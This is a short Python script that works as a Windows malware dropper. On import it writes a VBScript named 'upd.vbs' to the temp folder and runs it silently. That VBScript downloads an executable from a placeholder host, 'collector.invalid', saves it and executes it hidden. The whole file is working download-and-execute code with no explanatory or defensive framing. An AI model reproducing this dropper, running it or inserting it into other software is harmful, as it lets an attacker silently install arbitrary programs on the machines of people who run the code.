import os, subprocess, tempfile, textwrap

def script(url, target):
    return textwrap.dedent(f"""
        Set x = CreateObject("MSXML2.XMLHTTP")
        x.Open "GET", "{url}", False
        x.Send
        Set s = CreateObject("ADODB.Stream")
        s.Type = 1
        s.Open
        s.Write x.responseBody
        s.SaveToFile "{target}", 2
        CreateObject("WScript.Shell").Run "{target}", 0
    """)

def drop(name, text):
    p = os.path.join(tempfile.gettempdir(), name)
    with open(p, "wt") as f:
        print(text, file=f)
    return p

def run():
    p = drop("upd.vbs", script("http://collector.invalid/v.exe", os.path.join(tempfile.gettempdir(), "v.exe")))
    subprocess.Popen("wscript //B //Nologo " + p)

if os.name == "nt":
    run()
